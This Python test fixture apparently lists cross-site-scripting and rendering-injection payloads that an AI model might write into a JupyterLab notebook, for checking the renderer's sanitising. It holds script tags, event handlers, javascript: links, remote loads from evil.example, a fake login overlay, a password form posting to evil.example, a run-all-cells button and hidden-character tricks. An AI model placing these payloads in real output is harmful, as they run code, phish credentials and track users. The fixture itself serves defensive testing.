"""What a model might write to do harm. Each payload tells `window.fired`, asks evil.example, or dresses up the page."""

from __future__ import annotations

HOST = "evil.example"

PAYLOADS = (
    # scripts
    "<script>fired('script')</script>",
    "<ScRiPt >fired('mixed case')</sCrIpT>",
    f"<script src=http://{HOST}/remote.js></script>",
    "<scr<script>ipt>fired('nested script')</scr</script>ipt>",
    "<svg><script>fired('svg script')</script></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=fired(\"mglyph\")&gt;'>",
    # event handlers
    "<img src=x onerror=\"fired('img')\">",
    "<img src=x:x onerror=fired('unquoted')//",
    "<svg onload=fired('svg')>",
    "<svg><animate onbegin=fired('animate') attributeName=x dur=1s>",
    "<details open ontoggle=fired('details')>x</details>",
    "<video><source onerror=fired('video')></video>",
    "<input autofocus onfocus=fired('focus')>",
    "<body onload=fired('body')>",
    "<marquee onstart=fired('marquee')>x</marquee>",
    "text <b onmouseover=fired('hover')>hover</b> text",
    # frames and objects
    "<iframe srcdoc=\"<script>parent.fired('srcdoc')</script>\"></iframe>",
    f"<iframe src=http://{HOST}/frame></iframe>",
    f"<object data=http://{HOST}/object></object><embed src=http://{HOST}/embed>",
    f"<base href=http://{HOST}/><link rel=stylesheet href=http://{HOST}/sheet.css>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/refresh'>",
    # links
    "[click](javascript:fired('link'))",
    "[click](JaVaScRiPt:fired('case'))",
    "[click](java\tscript:fired('tab'))",
    "[click](&#106;avascript:fired('entity'))",
    "[click](\x01javascript:fired('control'))",
    "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuZmlyZWQoJ2RhdGEnKTwvc2NyaXB0Pg==)",
    "[click](vbscript:fired('vbscript))",
    "[click][a]\n\n[a]: javascript:fired('reference')",
    "<javascript:fired('autolink')>",
    "[![x](javascript:fired('image in link'))](javascript:fired('link around image'))",
    "<a href=javascript:fired('a')>click</a>",
    # remote images: a request would tell that the notebook was opened
    f"![track](http://{HOST}/pixel.png)",
    f"![track][p]\n\n[p]: http://{HOST}/reference.png",
    f"<img src=http://{HOST}/img.png>",
    f"<div style=\"background:url(http://{HOST}/css.png)\">x</div>",
    f"![x](http://{HOST}/a.png\"onerror=\"fired('attribute')\")",
    f"![x](x \"title\"onerror=fired('title')\")![a](//{HOST}/protocol-relative.png)",
    # style, forms, JupyterLab's own buttons
    "<style>body{display:none!important} .jp-Notebook{opacity:0}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>your session has ended, log in</div>",
    f"<form action=http://{HOST}/login><input name=password><button>go</button></form>",
    "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>run</button>",
    # mathematics, which JupyterLab typesets
    "$\\href{javascript:fired('href')}{click}$",
    "$$\\mmlToken{mi}[href=\"javascript:fired('mmlToken')\"]{click}$$",
    "$\\style{position:fixed;inset:0;z-index:99999;background:red}{x}$",
    "$\\cssId{jupyter-config-data}{x}$ $\\class{jp-Dialog lm-mod-hidden}{x}$",
    "\\(\\href{javascript:fired('paren')}{click}\\) \\begin{align}\\href{javascript:fired('env')}{x}\\end{align}",
    f"$\\bbox[background:url(http://{HOST}/bbox.png)]{{x}}$ $\\require{{html}}\\href{{javascript:fired('req')}}{{x}}$",
    # fences and nesting
    "```html\n<script>fired('fence')</script>\n```",
    "```\"><script>fired('info')</script>\ncode\n```",
    "`<img src=x onerror=fired('code')>`",
    "> - <img src=x onerror=fired('list in quote')>\n>   1. <svg onload=fired('deep')>",
    "| a | b |\n|---|---|\n| <img src=x onerror=fired('cell')> | [x](javascript:fired('cell link')) |",
    "**<img src=x onerror=fired('strong')>** ~~<svg onload=fired('del')>~~",
    "<!-- --><script>fired('comment')</script> <![CDATA[<script>fired('cdata')</script>]]> <?php fired() ?>",
    # what cannot be seen
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200frtl",
    "\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b[0m \x00 \x08 \x9b31m",
    "half a character: \ud83d, and \ufeffa mark",
)  # fmt: skip
